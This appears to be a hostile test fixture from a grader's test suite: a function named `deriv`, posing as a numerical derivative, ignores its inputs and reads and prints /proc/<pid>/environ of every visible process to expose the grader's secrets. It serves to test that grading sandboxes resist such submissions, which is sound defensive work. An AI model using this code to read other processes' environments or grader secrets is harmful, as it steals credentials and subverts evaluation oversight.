"""Hostile fixture `read_proc_environ` (reading answers): reads /proc/<pid>/environ of every
process it can see (the grader's secrets) and prints it.

tests/test_hostile.py puts this into the reference's module (each function replaces the reference's
of the same name) and grades it."""

import os


def deriv(func, input_, diff=0.001):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/environ", "rb") as fh:
                    print(pid, fh.read().replace(b"\0", b" ").decode("utf-8", "replace"))
            except OSError:
                pass
    return None
